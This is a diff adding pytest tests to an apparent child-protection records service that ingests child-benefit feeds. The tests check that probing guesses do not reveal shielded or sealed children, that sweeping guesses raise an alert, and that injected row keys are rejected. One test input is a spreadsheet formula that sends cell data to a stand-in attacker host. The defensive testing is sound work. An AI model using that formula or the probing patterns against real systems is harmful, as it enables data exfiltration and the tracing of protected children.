@@ -143,3 +143,82 @@ def test_one_row_key_sent_again_and_again_with_other_content_raises_a_national_a
             client.post(SUBMIT, headers=headers, content=_feed(child_benefit_row("CB-SAME", moved)))
 
     assert "feed_probing" in _national_alerts(runtime)
+
+
+def _partial_guess(key: str, child: ChildRecord, **changes: str) -> dict[str, str]:
+    """A guess about a child lacking the given name: it can only add to a record that exists."""
+    return child_benefit_row(key, child) | {"CHILD_FORENAMES": ""} | changes
+
+
+@pytest.mark.parametrize("status", [RecordStatus.SHIELDED, RecordStatus.SEALED])
+def test_a_partial_row_is_taken_whether_or_not_a_protected_child_matches_it(
+    runtime: Runtime, factory: ChildFactory, status: RecordStatus
+) -> None:
+    child = store_children(runtime, [factory.child(status=status, la_code=HOME_LA)])[0]
+    born = child.date_of_birth
+    control = f"{born.day:02d}/{born.month:02d}/{born.year + 1:04d}"
+    nonsense = {"CHILD_SURNAME": "Qzxvbn"}
+    rows = [
+        _partial_guess("CB-TRUE", child),  # the true surname and date of birth
+        _partial_guess("CB-CONTROL", child, CHILD_DOB=control),  # nobody
+        _partial_guess("CB-POSTCODE", child, **nonsense),  # nonsense surname at the child's postcode
+        _partial_guess("CB-ELSEWHERE", child, **nonsense, POSTCODE="SW1A 1AA"),  # and somewhere else
+    ]
+    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
+        response = client.post(SUBMIT, headers=_key(runtime), content=_feed(*rows))
+
+    assert response.status_code == 200, response.text
+    report = response.json()
+    assert (report["read"], report["accepted"], report["rejected"], report["rejects"]) == (4, 4, 0, [])
+    with runtime.unit_of_work() as uow:
+        assert [c.record.cp_id for c in uow.children.get_many(uow.children.ids_after("", 10)).values()] == [
+            child.cp_id
+        ]
+
+
+def test_one_submission_sweeping_partial_guesses_raises_a_national_alert_whatever_its_size(
+    runtime: Runtime, factory: ChildFactory
+) -> None:
+    child = store_children(runtime, [factory.child(status=RecordStatus.SHIELDED, la_code=HOME_LA)])[0]
+    rows = [
+        _partial_guess(f"CB{n:03d}", child, CHILD_SURNAME="Qzxvbn", POSTCODE=f"NE{n % 40 + 1} {n % 9 + 1}AB")
+        for n in range(40)
+    ]
+    full = [child_benefit_row(f"CF{n:03d}", factory.child(la_code=HOME_LA)) for n in range(30)]
+    few = [row | {"RECORD_ID": "H" + row["RECORD_ID"]} for row in rows[:3]]
+    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=300) as client:
+        honest = client.post(SUBMIT, headers=_key(runtime, "cb-honest"), content=_feed(*full, *few))
+        assert honest.status_code == 200, honest.text
+        assert "feed_probing" not in _national_alerts(runtime)
+        sweep = client.post(SUBMIT, headers=_key(runtime), content=_feed(*rows))
+
+    assert sweep.status_code == 200, sweep.text
+    assert sweep.json()["rejected"] == 0
+    assert "feed_probing" in _national_alerts(runtime)
+
+
+def test_a_row_key_of_free_text_or_a_formula_is_rejected_and_nothing_of_it_is_stored(
+    runtime: Runtime, factory: ChildFactory
+) -> None:
+    child = factory.child(la_code=HOME_LA)
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"open")'
+    prose = "Imogen Tyler lives at 24 Laurel Close NE24 8DH"
+    rows = [child_benefit_row(formula, child), child_benefit_row(prose, child)]
+    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
+        response = client.post(SUBMIT, headers=_key(runtime), content=_feed(*rows))
+
+    assert response.status_code == 200, response.text
+    report = response.json()
+    assert (report["accepted"], report["rejected"]) == (0, 2)
+    assert {(r["line"], r["field"], r["row_key"]) for r in report["rejects"]} == {
+        (2, "RECORD_ID", None),
+        (3, "RECORD_ID", None),
+    }
+    assert all("record identifier" in r["rule"] for r in report["rejects"])
+    with runtime.engine.connect() as connection:
+        kept = {
+            value
+            for table in ("feed_rows", "field_provenance", "review_items")
+            for (value,) in connection.exec_driver_sql(f"SELECT row_key FROM {table}")  # noqa: S608
+        }
+    assert not {formula, prose} & kept
